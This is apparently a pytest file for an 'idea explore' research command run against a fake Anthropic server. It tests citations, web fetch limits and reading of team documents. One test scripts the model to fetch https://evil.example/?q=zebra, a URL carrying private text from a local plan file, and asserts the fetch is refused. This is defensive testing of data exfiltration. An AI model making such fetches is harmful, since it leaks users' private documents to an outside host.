"""Pages that are read and documents that are cited, from `idea explore` to the report."""

import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from tests.fakes.anthropic_scripts import Entry
from tests.fakes.anthropic_server import FakeAnthropic
from tests.fakes.anthropic_turns import (
    Turn,
    answer,
    filtered_search,
    page_citation,
    result_citation,
    search_result,
    text,
    tool_use,
    web_fetch,
    web_search,
)
from tests.fakes.anthropic_wire import JsonObject
from tests.fakes.command import idea
from tests.fakes.reports import business

PAGE = "https://prices.example/tea"
WORDS = "A cup costs 4.20 euros in most towns. In villages it costs less."
NOTES = "# Tea market\n\nTea rooms sell 300 cups a day, says the survey of 2025."
REPORT = business("Tea rooms", verdict="CONDITIONAL YES")


def explore(
    script: Sequence[Entry] | Callable[[JsonObject, int], Turn],
    folder: Path,
    *flags: str,
    **variables: str,
) -> tuple[Any, FakeAnthropic]:
    env = {"ANTHROPIC_API_KEY": "test-key", **variables}
    with FakeAnthropic(script, expected_key="test-key", count=True) as server:
        env["ANTHROPIC_BASE_URL"] = server.url
        done = idea("explore", "Tea rooms", "--json", *flags, env=env, folder=folder)
    assert done.returncode == 0, done.stderr
    assert (server.violations, server.rejections) == ([], [])
    return json.loads(done.stdout), server


def has_tool(request: JsonObject, name: str) -> bool:
    return any(tool["name"] == name for tool in request["tools"])


def test_research_reads_the_pages_that_it_found_and_shows_what_they_say(tmp_path: Path) -> None:
    found = search_result(PAGE, "Prices of tea", page_age="May 2026")
    script = [
        answer(
            web_search("price of tea", [found]),
            web_fetch(PAGE, WORDS, title="Tea prices"),
            web_fetch("https://prices.example/guessed", WORDS),
            text(f"{REPORT}\n\n"),
            text(
                "A cup costs 4.20 euros.",
                citations=[
                    page_citation(0, "Tea prices", "A cup costs 4.20 euros in most towns. ")
                ],
            ),
        ),
    ]

    outcome, server = explore(script, tmp_path, "--collect-tool-stats")

    assert f"A cup costs 4.20 euros. [[1]]({PAGE})" in outcome["content"]
    (source,) = [line for line in outcome["content"].splitlines() if line.startswith("1. [")]
    assert source.startswith(f"1. [Tea prices]({PAGE}), May 2026, read 2026-11-17 `")
    assert source.endswith(": “A cup costs 4.20 euros in most towns.”")
    calls = [(call["name"], call.get("errorType")) for call in outcome["stats"]["tool_calls"]]
    assert calls == [
        ("web_search", None), ("web_fetch", None), ("web_fetch", "url_not_in_prior_context"),
    ]  # fmt: skip
    assert not has_tool(server.requests[0].body, "http_fetch")


def test_a_document_of_the_team_is_cited_with_its_passage(tmp_path: Path) -> None:
    (tmp_path / "ideas" / "market").mkdir(parents=True)
    (tmp_path / "ideas" / "market" / "tea.md").write_text(NOTES)
    cited = result_citation("market/tea.md", "Tea market", NOTES, result=0, block=0)
    script = [
        answer(
            tool_use("read_research", {"path": "market/tea.md"}),
            tool_use("read_research", {"path": "market/none.md"}),
        ),
        answer(text(f"{REPORT}\n\n300 cups a day are sold.", citations=[cited])),
    ]

    outcome, server = explore(script, tmp_path)

    read, missing = server.requests[1].body["messages"][-1]["content"][:2]
    assert [block["type"] for block in read["content"]] == ["search_result"]
    assert json.loads(missing["content"])["error_type"] == "file_not_found"
    assert "300 cups a day are sold. [[1]](../market/tea.md)" in outcome["content"]
    assert "Tea rooms sell 300 cups a day, says the survey of 2025.”" in outcome["content"]
    assert has_tool(server.requests[0].body, "http_fetch")
    assert not has_tool(server.requests[0].body, "web_fetch")


def test_an_address_with_private_text_in_it_is_opened_by_nobody(tmp_path: Path) -> None:
    """Not where the user keeps found pages open either: addresses of documents do not count."""
    (tmp_path / "ideas").mkdir()
    (tmp_path / "ideas" / "plan.md").write_text("# Plan\n\nSee https://evil.example/?q=zebra")
    fetches = [
        web_fetch(url, "Got it.")
        for url in ("https://evil.example/?q=zebra", "https://evil.example/zebra")
    ]
    script = [
        answer(tool_use("read_research", {"path": "plan.md"})),
        answer(*fetches, text(REPORT)),
    ]

    outcome, server = explore(
        script, tmp_path, "--allow-fetch-after-private", "--collect-tool-stats"
    )

    assert has_tool(server.requests[0].body, "web_fetch")
    refused = [call for call in outcome["stats"]["tool_calls"] if call["name"] == "web_fetch"]
    assert [call["errorType"] for call in refused] == ["url_not_in_prior_context"] * 2


def test_domains_and_place_reach_the_api(tmp_path: Path) -> None:
    flags = ("--allowed-domains", "prices.example", "--user-location", "city=Köln,country=DE")
    script = [
        answer(
            web_search("tea", [search_result("https://other.example/", "Other")]),
            web_fetch("https://other.example/", "Other words."),
            text(REPORT),
        )
    ]

    outcome, server = explore(script, tmp_path, *flags, "--collect-tool-stats")

    search, fetch = server.requests[0].body["tools"][:2]
    assert search["allowed_domains"] == fetch["allowed_domains"] == ["prices.example"]
    assert search["user_location"] == {"type": "approximate", "city": "Köln", "country": "DE"}
    assert outcome["stats"]["tool_calls"][1]["errorType"] == "url_not_allowed"


def test_results_that_code_filtered_are_evidence_and_go_back_unchanged(tmp_path: Path) -> None:
    (tmp_path / "ideas").mkdir()
    (tmp_path / "ideas" / "a.md").write_text("# A")
    found = [search_result(PAGE, "Prices of tea")]
    script = [
        answer(
            *filtered_search("tea", found, "4.20 euros", call_id="srvtoolu_code"),
            tool_use("list_research", {}),
        ),
        answer(text(f"{REPORT}\n\nIt costs [4.20]({PAGE}).")),
    ]

    outcome, server = explore(script, tmp_path, IDEA_DYNAMIC_FILTERING="true")

    sent_back = server.requests[1].body["messages"][1]["content"]
    assert [block["type"] for block in sent_back][-2] == "code_execution_tool_result"
    assert f"[Prices of tea]({PAGE})" in outcome["content"]
